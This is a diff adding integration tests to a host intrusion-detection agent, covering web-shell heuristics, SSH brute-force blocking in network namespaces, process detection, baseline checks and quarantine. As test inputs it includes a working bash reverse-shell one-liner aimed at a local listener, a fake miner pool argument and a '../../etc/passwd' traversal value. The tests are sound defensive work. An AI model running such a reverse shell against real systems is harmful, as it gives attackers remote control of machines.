@@ -13,12 +13,15 @@ import json
 import os
 import shutil
 import signal
+import socket
+import stat
 import subprocess
+import sys
 import time
 import unittest
 
 import harness  # noqa: F401  (cleanups)
-from agent_harness import Agent, sign
+from agent_harness import Agent, agent_path, sign
 from rampartd_harness import Rampartd, bearer, curl, first_login, make_token, make_user
 
 RD = ADMIN = SECOPS = AUDITOR = None
@@ -121,7 +124,8 @@ class Enrolment(unittest.TestCase):
         self.assertEqual(AUDITOR.request("DELETE", path).status, 403)
         self.assertEqual(AUDITOR.request("POST", "/api/v1/agents/enrolments", {}).status, 403)
         self.assertEqual(SECOPS.request("PATCH", path, caps).status, 200)
-        self.assertEqual(agents()["authz"]["capabilities"], {"bruteforce": True, "fim": False, "webshell": True})
+        self.assertEqual(agents()["authz"]["capabilities"], {"bruteforce": True, "fim": False, "webshell": True,
+                          "process": True, "baseline": True, "response": True})
         self.assertEqual(SECOPS.request("PATCH", path, {"capabilities": {"nope": 1}}).status, 400)
         self.assertEqual(ADMIN.request("DELETE", path).status, 204)
         self.assertNotIn("authz", agents())
@@ -322,6 +326,30 @@ class WebShells(unittest.TestCase):
         self.assertTrue(fim_events(os.path.join(uploads, samples[0]), "fim.added"))
         self.assertIsNone(self.agent.proc.poll())
 
+    def test_heuristics_flag_obfuscated_shells_and_uploaded_scripts(self):
+        heur = os.path.join(self.DATA, "heuristic")
+        samples = sorted(os.listdir(heur))
+        for name in samples:
+            shutil.copy(os.path.join(heur, name), os.path.join(self.www, "h-" + name))
+        for name in samples:
+            path = os.path.join(self.www, "h-" + name)
+            found = wait_for(lambda: self.webshell_events(path), timeout=5)
+            self.assertTrue(found, "%s not flagged\n%s" % (name, self.agent.log_tail()))
+        # an ordinary-looking script is flagged once it lands in an upload directory
+        os.makedirs(os.path.join(self.www, "images"), exist_ok=True)
+        dropped = os.path.join(self.www, "images", "info.php")
+        kept = os.path.join(self.www, "info.php")
+        for path in (dropped, kept):
+            with open(path, "w") as f:
+                f.write("<?php phpinfo();\n")
+        found = wait_for(lambda: self.webshell_events(dropped), timeout=5)
+        self.assertTrue(found, self.agent.log_tail())
+        self.assertIn("webshell.heuristic", found[0]["rules"])
+        d = event_detail(found[0], "webshell")
+        self.assertEqual(d["heuristics"]["traits"], ["upload_script"])
+        time.sleep(0.5)
+        self.assertEqual(self.webshell_events(kept), [])
+
     def test_a_web_root_outside_the_watched_paths_is_refused(self):
         agent = Agent(RD.port, "rpe_unused", hostname="web-3",
                       extra_conf="webshell_root /srv/elsewhere\n")
@@ -362,7 +390,23 @@ class BruteForce(unittest.TestCase):
         cls.agent.write_conf("auth_log %s\nbruteforce_threshold 4\n"
                              "bruteforce_window_seconds 60\n" % cls.sshd_log)
         cls.agent.start()
-        cls.agent.wait_log("fim: scan done")
+        # two more agents on the same log with active response: one
+        # active, one dry-run, each with its nft commands in a network
+        # namespace of its own (the host's firewall is never touched)
+        cls.netns = {}
+        cls.responders = {}
+        for mode in ("active", "dry-run"):
+            ns = "rp-agent-%s-%d" % (mode, os.getpid())
+            subprocess.run(["ip", "netns", "add", ns], check=True)
+            harness._cleanups.append(lambda ns=ns: subprocess.run(["ip", "netns", "del", ns]))
+            cls.netns[mode] = ns
+            agent = Agent(RD.port, enrolment_token(), hostname="ssh-%s" % mode)
+            agent.write_conf("auth_log %s\nbruteforce_threshold 4\nbruteforce_window_seconds 60\n"
+                             "response_mode %s\nresponse_rule bruteforce.source block 120\n"
+                             "response_netns %s\n" % (cls.sshd_log, mode, ns))
+            cls.responders[mode] = agent.start()
+        for agent in [cls.agent] + list(cls.responders.values()):
+            agent.wait_log("fim: scan done")
 
     @classmethod
     def stop_sshd(cls):
@@ -373,6 +417,8 @@ class BruteForce(unittest.TestCase):
     @classmethod
     def tearDownClass(cls):
         cls.agent.stop()
+        for agent in cls.responders.values():
+            agent.stop()
         cls.stop_sshd()
 
     def failed_login(self, user):
@@ -391,8 +437,8 @@ class BruteForce(unittest.TestCase):
     def test_password_guessing_is_detected(self):
         for i in range(5):
             self.failed_login("guess-%d" % i if i % 2 else "root")
-        found = wait_for(lambda: [e for e in self.events()
-                                  if "bruteforce.source" in e["rules"]], timeout=10)
+        found = wait_for(lambda: [e for e in self.events() if "bruteforce.source" in e["rules"]
+                                  and e["source"] == "agent:ssh-1"], timeout=10)
         self.assertTrue(found, self.agent.log_tail())
         ev = found[0]
         self.assertEqual(ev["client"], "127.0.0.1")
@@ -404,7 +450,413 @@ class BruteForce(unittest.TestCase):
         # one alert per source and window, however many more failures come
         self.failed_login("root")
         time.sleep(1.5)
-        self.assertEqual(len([e for e in self.events() if "bruteforce.source" in e["rules"]]), 1)
+        self.assertEqual(len([e for e in self.events() if "bruteforce.source" in e["rules"]
+                              and e["source"] == "agent:ssh-1"]), 1)
+
+    def nft(self, mode, *args):
+        return subprocess.run(["ip", "netns", "exec", self.netns[mode], "nft"] + list(args),
+                              capture_output=True, text=True)
+
+    def responses(self, host):
+        r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"] if e["source"] == "agent:" + host]
+
+    def connects_in(self, mode):
+        """A TCP connection from 127.0.0.1 to a listener, inside the namespace."""
+        code = ("import socket\nl = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)\n"
+                "c = socket.socket(); c.settimeout(1.5)\n"
+                "try:\n    c.connect(l.getsockname()); print('connected')\n"
+                "except OSError:\n    print('dropped')\n")
+        subprocess.run(["ip", "netns", "exec", self.netns[mode], "ip", "link", "set", "lo", "up"],
+                       check=True)
+        out = subprocess.run(["ip", "netns", "exec", self.netns[mode], sys.executable, "-c", code],
+                             capture_output=True, text=True, timeout=30).stdout
+        return out.strip() == "connected"
+
+    def test_active_response_blocks_the_source_dry_run_does_not(self):
+        for i in range(5):
+            self.failed_login("guess-%d" % i)
+        found = wait_for(lambda: self.responses("ssh-active"), timeout=10)
+        self.assertTrue(found, self.responders["active"].log_tail())
+        ev = found[0]
+        self.assertIn("response.block", ev["rules"])
+        self.assertEqual((ev["action"], ev["client"], ev["uri"]), ("block", "127.0.0.1",
+                                                                   "127.0.0.1"))
+        d = event_detail(ev, "response")
+        self.assertEqual((d["mode"], d["trigger"], d["done"], d["seconds"]),
+                         ("active", "bruteforce.source", True, 120))
+        # the element is there, with its timeout, and it drops the traffic
+        listed = self.nft("active", "list", "set", "inet", "rampart", "blocked4")
+        self.assertEqual(listed.returncode, 0, listed.stderr)
+        self.assertIn("127.0.0.1", listed.stdout)
+        self.assertIn("expires", listed.stdout)
+        self.assertFalse(self.connects_in("active"))
+        # dry-run: the event says what would have been done; no table at all
+        dry = wait_for(lambda: self.responses("ssh-dry-run"), timeout=10)
+        self.assertTrue(dry, self.responders["dry-run"].log_tail())
+        self.assertEqual(dry[0]["action"], "log")
+        d = event_detail(dry[0], "response")
+        self.assertEqual((d["mode"], d["done"]), ("dry-run", False))
+        self.assertNotEqual(self.nft("dry-run", "list", "table", "inet", "rampart").returncode, 0)
+        self.assertTrue(self.connects_in("dry-run"))
+        # reversible: -U lifts the block; the agent reports the reversal
+        active = self.responders["active"]
+        r = subprocess.run([agent_path(), "-c", active.conf, "-U", "127.0.0.1"],
+                           capture_output=True, text=True)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertNotIn("127.0.0.1",
+                         self.nft("active", "list", "set", "inet", "rampart", "blocked4").stdout)
+        self.assertTrue(self.connects_in("active"))
+        self.assertTrue(wait_for(lambda: [e for e in self.responses("ssh-active")
+                                          if "response.unblock" in e["rules"]], timeout=5))
+
+
+def event_detail(ev, category):
+    full = AUDITOR.request("GET", "/api/v1/events/%d" % ev["id"]).json()
+    return full.get("event", full).get(category) or full.get("raw", {}).get(category)
+
+
+def start_reverse_shell():
+    """A real reverse shell: bash -i with stdin/stdout/stderr on a TCP
+    connection to a listener of the test. Returns (shell, port, close)."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    port = listener.getsockname()[1]
+    shell = subprocess.Popen(["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port],
+                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL, start_new_session=True)
+    conn, _ = listener.accept()
+
+    def close():
+        if shell.poll() is None:
+            os.killpg(shell.pid, signal.SIGKILL)
+        shell.wait()
+        conn.close()
+        listener.close()
+    return shell, port, close
+
+
+class Processes(unittest.TestCase):
+    """Real processes on the real kernel: exec events from the process connector."""
+
+    @classmethod
+    def setUpClass(cls):
+        if os.geteuid() != 0:
+            raise unittest.SkipTest("the process connector needs CAP_NET_ADMIN")
+        cls.agent = Agent(RD.port, enrolment_token(), hostname="proc-1",
+                          extra_conf="process_monitor on\nprocess_scan_seconds 2\n")
+        cls.agent.start()
+        cls.agent.wait_log("process: exec events from the process connector")
+        cls.agent.wait_log("fim: scan done")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.agent.stop()
+
+    def events(self, detection):
+        r = AUDITOR.request("GET", "/api/v1/events?category=process&limit=500")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"] if detection in e["rules"]]
+
+    def for_pid(self, detection, pid, timeout=5):
+        def find():
+            for e in self.events(detection):
+                d = event_detail(e, "process")
+                if d and d["pid"] == pid:
+                    return e, d
+            return None
+        return wait_for(find, timeout=timeout, step=0.05)
+
+    def test_a_reverse_shell_is_detected_an_ordinary_shell_is_not(self):
+        ordinary = subprocess.Popen(["bash", "-c", "sleep 3; true"], stdin=subprocess.DEVNULL,
+                                    stdout=subprocess.DEVNULL)
+        started = time.time()
+        shell, port, close = start_reverse_shell()
+        try:
+            found = self.for_pid("process.reverse_shell", shell.pid)
+            self.assertTrue(found, self.agent.log_tail())
+            latency = time.time() - started
+            print("reverse shell -> event stored in rampartd: %.2f s" % latency, file=sys.stderr)
+            self.assertLess(latency, 5)
+            ev, d = found
+            self.assertEqual(ev["client"], "127.0.0.1")
+            self.assertEqual(ev["source"], "agent:proc-1")
+            self.assertEqual(d["exe"], os.path.realpath(shutil.which("bash")))
+            self.assertIn("bash -i", d["cmdline"])
+            self.assertEqual(d["evidence"]["remote"], "127.0.0.1:%d" % port)
+            self.assertIn(0, d["evidence"]["fds"])
+            self.assertTrue(d["parents"], d)
+            # the ordinary shell (stdin /dev/null, stdout a pipe) is not one
+            self.assertIsNone(self.for_pid("process.reverse_shell", ordinary.pid, timeout=2.5))
+        finally:
+            close()
+            ordinary.wait()
+
+    def test_web_server_child_miner_deleted_file_and_listener(self):
+        tmp = self.agent.dir
+        # a worker titled "nginx" (prctl PR_SET_NAME) starting a shell
+        web = subprocess.Popen([sys.executable, "-c",
+                                "import ctypes, subprocess\n"
+                                "ctypes.CDLL(None).prctl(15, b'nginx', 0, 0, 0)\n"
+                                "subprocess.run(['sh', '-c', 'sleep 2; true'])"])
+        miner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3)",
+                                  "-o", "stratum+tcp://pool.example:3333"])
+        copy = os.path.join(tmp, "sleep-copy")
+        shutil.copy("/bin/sleep", copy)
+        deleted = subprocess.Popen([copy, "6"])
+        time.sleep(0.2)
+        os.unlink(copy)
+        listen = subprocess.Popen([sys.executable, "-c",
+                                   "import socket, time\ns = socket.socket()\n"
+                                   "s.bind(('127.0.0.1', 0)); s.listen(1); time.sleep(6)"])
+        try:
+            found = wait_for(lambda: [d for d in (event_detail(e, "process") for e in
+                                                  self.events("process.web_server_shell"))
+                                      if d["evidence"]["server_pid"] == web.pid], timeout=5)
+            self.assertTrue(found, self.agent.log_tail())
+            self.assertEqual(found[0]["evidence"]["server_comm"], "nginx")
+            self.assertTrue(self.for_pid("process.crypto_miner", miner.pid), self.agent.log_tail())
+            d = self.for_pid("process.deleted_executable", deleted.pid, timeout=6)
+            self.assertTrue(d, self.agent.log_tail())
+            self.assertEqual(d[1]["evidence"]["file"], copy)
+            d = self.for_pid("process.unexpected_listener", listen.pid, timeout=6)
+            self.assertTrue(d, self.agent.log_tail())
+            self.assertTrue(d[1]["evidence"]["listen"].startswith("127.0.0.1:"))
+        finally:
+            for p in (web, miner, deleted, listen):
+                p.kill()
+                p.wait()
+
+    def test_switched_off_by_rampartd(self):
+        aid = agents()["proc-1"]["id"]
+        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"process": False}})
+        self.assertEqual(r.status, 200, r)
+        self.assertFalse(r.json()["capabilities"]["process"])
+        self.agent.wait_log('capability switched by rampartd" process=off', timeout=5)
+        miner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(2)", "--donate-level"])
+        self.assertIsNone(self.for_pid("process.crypto_miner", miner.pid, timeout=2.5))
+        miner.wait()
+        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"process": True}})
+        self.assertEqual(r.status, 200, r)
+        self.agent.wait_log('capability switched by rampartd" process=on', timeout=5)
+
+
+class Baseline(unittest.TestCase):
+    """The shipped SSH policy and a local one against a prepared root."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.agent = Agent(RD.port, enrolment_token(), hostname="sca-1")
+        root = os.path.join(cls.agent.dir, "root")
+        os.makedirs(os.path.join(root, "etc", "ssh"))
+        with open(os.path.join(root, "etc", "ssh", "sshd_config"), "w") as f:
+            f.write("PermitRootLogin yes\nPasswordAuthentication no\nMaxAuthTries 3\n")
+        os.chmod(os.path.join(root, "etc", "ssh", "sshd_config"), 0o600)
+        local = os.path.join(cls.agent.dir, "local.policy")
+        with open(local, "w") as f:
+            f.write('policy local "Local"\ncheck local.motd "A login banner"\n'
+                    ' control "GB/T 22239-2019 8.1.4.1 a)"\n rationale "r"\n remediation "m"\n'
+                    ' file_contains /etc/issue.net "(?i)authori[sz]ed"\nend\n')
+        cls.agent.write_conf("baseline_policy %s\nbaseline_policy %s\nbaseline_root %s\n" %
+                             (os.path.join(harness.SOURCE_DIR, "etc", "baseline", "ssh.policy"),
+                              local, root))
+        cls.agent.start()
+        cls.agent.wait_log("baseline: checks done")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.agent.stop()
+
+    def test_results_are_stored_per_host_and_readable(self):
+        aid = agents()["sca-1"]["id"]
+        path = "/api/v1/agents/%d/baseline" % aid
+        r = wait_for(lambda: (lambda x: x if x.status == 200 else None)(
+            AUDITOR.request("GET", path)), timeout=5)
+        self.assertTrue(r, self.agent.log_tail())
+        report = r.json()
+        self.assertEqual(report["agent_id"], aid)
+        self.assertIn("reported", report)
+        results = {c["id"]: c for p in report["policies"] for c in p["checks"]}
+        self.assertEqual(results["ssh.root_login"]["result"], "fail")
+        self.assertIn("sshd_config:1", results["ssh.root_login"]["reason"])
+        self.assertEqual(results["ssh.password_authentication"]["result"], "pass")
+        self.assertEqual(results["ssh.max_auth_tries"]["result"], "pass")
+        self.assertEqual(results["local.motd"]["result"], "fail")
+        self.assertEqual(results["ssh.host_key_permissions"]["result"], "not_applicable")
+        self.assertTrue(results["ssh.root_login"]["control"].startswith("GB/T 22239-2019"))
+        self.assertTrue(results["ssh.root_login"]["remediation"])
+        p = report["passed"] + report["failed"]
+        self.assertEqual(report["score"], round(100 * report["passed"] / p))
+        # people without agents:read, and anonymous callers, are refused
+        self.assertEqual(RD.request("GET", path, headers=bearer(GATEWAY_TOKEN)).status, 403)
+        self.assertEqual(RD.request("GET", path).status, 401)
+        self.assertEqual(AUDITOR.request("GET", "/api/v1/agents/999999/baseline").status, 404)
+
+    def test_a_malformed_report_is_refused(self):
+        r = RD.request("POST", "/api/v1/agent/enrol",
+                       {"token": enrolment_token(), "hostname": "sca-bad"})
+        aid, secret = r.json()["agent"]["id"], bytes.fromhex(r.json()["secret"])
+        path = "/api/v1/agent/baseline"
+        for bad in ({"score": 101, "passed": 0, "failed": 0, "not_applicable": 0, "policies": []},
+                    {"score": None, "passed": 1, "failed": 0, "not_applicable": 0,
+                     "policies": []},
+                    {"score": None, "passed": 1, "failed": 0, "not_applicable": 0,
+                     "policies": [{"id": "p", "checks": [{"id": "c", "result": "maybe"}]}]}):
+            body = json.dumps(bad).encode()
+            r = curl(RD.port, "POST", path, body, sign(aid, secret, "POST", path, body),
+                     content_type="application/json")
+            self.assertEqual(r.status, 400, (bad, r))
+
+    def test_a_malformed_policy_is_refused_with_file_and_line(self):
+        bad = os.path.join(self.agent.dir, "bad.policy")
+        with open(bad, "w") as f:
+            f.write('policy bad "Bad"\ncheck x "X"\n sshd PermitRootLogin is no\nend\n')
+        agent = Agent(RD.port, "rpe_unused", hostname="sca-2",
+                      extra_conf="baseline_policy %s\n" % bad)
+        agent.start()
+        agent.proc.wait(timeout=10)
+        self.assertEqual(agent.proc.returncode, 2)
+        self.assertIn("%s:3: expected an operator" % bad, agent.log_text())
+
+
+class ActiveResponse(unittest.TestCase):
+    """Kill and quarantine in active mode, on real processes and files."""
+
+    @classmethod
+    def setUpClass(cls):
+        if os.geteuid() != 0:
+            raise unittest.SkipTest("the process connector needs CAP_NET_ADMIN")
+        cls.agent = Agent(RD.port, enrolment_token(), hostname="respond-1")
+        cls.www = cls.agent.path("www")
+        os.mkdir(cls.www)
+        cls.agent.write_conf(
+            "webshell_root %s\nwebshell_rules %s\nprocess_monitor on\nresponse_mode active\n"
+            "response_rule process.reverse_shell kill\nresponse_rule webshell.* quarantine\n" %
+            (cls.www, os.path.join(harness.SOURCE_DIR, "etc", "rampart-webshell.yar")))
+        cls.agent.start()
+        cls.agent.wait_log("fim: scan done")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.agent.stop()
+
+    def responses(self, detection):
+        r = AUDITOR.request("GET", "/api/v1/events?category=response&limit=100")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"]
+                if e["source"] == "agent:respond-1" and detection in e["rules"]]
+
+    def test_a_reverse_shell_is_killed(self):
+        shell, _, close = start_reverse_shell()
+        try:
+            self.assertEqual(shell.wait(timeout=5), -signal.SIGKILL)
+        finally:
+            close()
+        found = wait_for(lambda: self.responses("response.kill"), timeout=5)
+        self.assertTrue(found, self.agent.log_tail())
+        d = event_detail(found[0], "response")
+        self.assertEqual((d["pid"], d["done"], d["trigger"]),
+                         (shell.pid, True, "process.reverse_shell"))
+
+    def test_a_webshell_is_quarantined_and_restored(self):
+        sample = os.path.join(harness.SOURCE_DIR, "tests", "data", "webshell", "shells",
+                              "eval_post.php")
+        path = os.path.join(self.www, "shell.php")
+        staged = os.path.join(self.agent.dir, "shell.php")  # its mode set before it arrives
+        shutil.copy(sample, staged)
+        os.chmod(staged, 0o640)
+        os.rename(staged, path)
+        found = wait_for(lambda: self.responses("response.quarantine"), timeout=5)
+        self.assertTrue(found, self.agent.log_tail())
+        d = event_detail(found[0], "response")
+        self.assertTrue(d["done"], d)
+        self.assertFalse(os.path.exists(path))
+        qdir = os.path.join(self.agent.state, "quarantine")
+        self.assertEqual(stat.S_IMODE(os.stat(qdir).st_mode), 0o700)
+        held = os.path.join(qdir, d["quarantine_id"])
+        with open(held, "rb") as f, open(sample, "rb") as g:
+            self.assertEqual(f.read(), g.read())
+        with open(held + ".json") as f:
+            meta = json.load(f)
+        self.assertEqual((meta["path"], meta["mode"]), (path, 0o640))
+        self.assertEqual(meta["sha256"], d["sha256"])
+        # restored (responses switched off first: the rules would take it again)
+        aid = agents()["respond-1"]["id"]
+        r = SECOPS.request("PATCH", "/api/v1/agents/%d" % aid, {"capabilities": {"response": False}})
+        self.assertEqual(r.status, 200, r)
+        self.agent.wait_log('capability switched by rampartd" response=off', timeout=5)
+        r = subprocess.run([agent_path(), "-c", self.agent.conf, "-R", d["quarantine_id"]],
+                           capture_output=True, text=True)
+        self.assertEqual(r.returncode, 0, r.stderr)
+        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o640)
+        with open(path, "rb") as f, open(sample, "rb") as g:
+            self.assertEqual(f.read(), g.read())
+        self.assertFalse(os.path.exists(held))
+        self.assertTrue(wait_for(lambda: self.responses("response.restore"), timeout=5))
+        # an unknown or malformed id restores nothing
+        r = subprocess.run([agent_path(), "-c", self.agent.conf, "-R", "../../etc/passwd"],
+                           capture_output=True, text=True)
+        self.assertEqual(r.returncode, 1)
+
+
+class JournalInput(unittest.TestCase):
+    """sshd's messages from a systemd journal directory (sd_journal); the
+    journal files are written by systemd-journal-remote from export format."""
+
+    REMOTE = "/lib/systemd/systemd-journal-remote"
+
+    @classmethod
+    def setUpClass(cls):
+        if not os.path.exists(cls.REMOTE):
+            raise unittest.SkipTest("systemd-journal-remote is not installed "
+                                    "(scripts/deps.sh installs it)")
+        cls.agent = Agent(RD.port, enrolment_token(), hostname="journal-1")
+        cls.journal = os.path.join(cls.agent.dir, "journal")
+        os.mkdir(cls.journal)
+        # history: failures from before the start are not replayed
+        cls.write_journal("old", [("sshd", "Failed password for root from 192.0.2.99 port 1 ssh2")]
+                          * 4)
+        cls.agent.write_conf("auth_journal on\nauth_journal_dir %s\nbruteforce_threshold 3\n"
+                             "bruteforce_window_seconds 60\n" % cls.journal)
+        cls.agent.start()
+        cls.agent.wait_log("fim: scan done")
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.agent.stop()
+
+    @classmethod
+    def write_journal(cls, name, entries):
+        now = int(time.time() * 1e6)
+        text = "".join("__REALTIME_TIMESTAMP=%d\nMESSAGE=%s\nSYSLOG_IDENTIFIER=%s\n_PID=%d\n\n" %
+                       (now + i, msg, ident, 4000 + i) for i, (ident, msg) in enumerate(entries))
+        export = os.path.join(cls.agent.dir, name + ".export")
+        with open(export, "w") as f:
+            f.write(text)
+        subprocess.run([cls.REMOTE, "--output=%s" % os.path.join(cls.journal, name + ".journal"),
+                        export], check=True, capture_output=True)
+
+    def events(self):
+        r = AUDITOR.request("GET", "/api/v1/events?category=bruteforce&limit=100")
+        self.assertEqual(r.status, 200, r)
+        return [e for e in r.json()["events"] if e["source"] == "agent:journal-1"]
+
+    def test_guessing_logged_to_the_journal_is_detected(self):
+        entries = [("sshd", "Failed password for invalid user u%d from 192.0.2.44 port %d ssh2"
+                    % (i, 5000 + i)) for i in range(3)]
+        # another program's look-alike line is not sshd's
+        entries += [("cron", "Failed password for root from 192.0.2.55 port 1 ssh2")] * 3
+        self.write_journal("new", entries)
+        found = wait_for(lambda: [e for e in self.events() if "bruteforce.source" in e["rules"]],
+                         timeout=5)
+        self.assertTrue(found, self.agent.log_tail())
+        self.assertEqual([e["client"] for e in found], ["192.0.2.44"])
+        time.sleep(1.2)
+        clients = {e["client"] for e in self.events()}
+        self.assertNotIn("192.0.2.99", clients)  # history
+        self.assertNotIn("192.0.2.55", clients)  # not sshd
 
 
 class Lifecycle(unittest.TestCase):
